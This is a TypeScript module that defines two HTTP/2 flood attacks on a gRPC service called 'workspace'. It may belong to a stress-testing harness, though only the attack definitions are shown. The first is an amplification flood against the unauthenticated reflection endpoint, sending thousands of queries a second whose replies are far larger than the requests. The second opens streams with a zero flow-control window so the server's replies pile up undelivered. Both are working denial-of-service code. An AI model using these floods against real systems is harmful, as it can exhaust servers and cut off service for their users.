import type { Flood } from "./flood.ts";
import { FLAG, FRAME, frame, grpcMessage, headersOf, PREFACE, windowOf } from "./http2-frames.ts";
import { openStreams } from "./streams.ts";

const LARGEST_WINDOW = 2 ** 31 - 1;
const HEADERS = headersOf("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", "application/grpc");

/** Asks for the file with a service, whose reply is 1,000 times as large. */
const question = () => {
  const symbol = Buffer.from("workspace.v1.WorkspaceService");
  return grpcMessage(Buffer.concat([Buffer.of((4 << 3) | 2, symbol.length), symbol])); // file_containing_symbol = 4
};

/** 8,000 questions a second to reflection, which needs no token. */
export const reflection: Flood = {
  target: "workspace",
  connections: 8,
  everyMs: 100,
  *send() {
    const increment = Buffer.alloc(4);
    increment.writeUInt32BE(LARGEST_WINDOW - 65_535);
    yield Buffer.concat([PREFACE, windowOf(LARGEST_WINDOW), frame(FRAME.windowUpdate, FLAG.none, 0, increment)]);
    yield* openStreams({
      headers: HEADERS,
      body: Buffer.concat(Array.from({ length: 100 }, question)),
      first: 1,
      later: 1,
    });
  },
};

/** Streams whose replies, of 32 KB, the client never takes: its window is 0. */
export const zeroWindow: Flood = {
  target: "workspace",
  connections: 4,
  everyMs: 10,
  *send() {
    yield Buffer.concat([PREFACE, windowOf(0)]);
    yield* openStreams({ headers: HEADERS, body: question(), first: 5, later: 5 });
  },
};
